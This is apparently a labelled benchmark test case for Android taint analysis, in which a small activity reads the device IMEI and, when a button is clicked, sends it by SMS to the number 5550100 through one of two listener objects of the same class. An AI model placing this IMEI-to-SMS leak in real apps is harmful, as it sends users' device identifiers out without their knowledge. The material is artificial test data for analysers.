// about       Of two listeners of one class the one that holds the IMEI is registered.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.view.View;
import android.widget.Button;

public class MainActivity extends Activity {
  private Sender spare;

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    String id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
    Sender report = new Sender(id);
    Sender greeting = new Sender("hello");
    Button button = new Button(this);
    setContentView(button);
    // One class, two objects.
    button.setOnClickListener(report);
    spare = greeting;
  }
}

class Sender implements View.OnClickListener {
  private final String text;

  Sender(String text) {
    this.text = text;
  }

  @Override
  public void onClick(View view) {
    SmsManager.getDefault().sendTextMessage("5550100", null, text, null, null);
  }
}
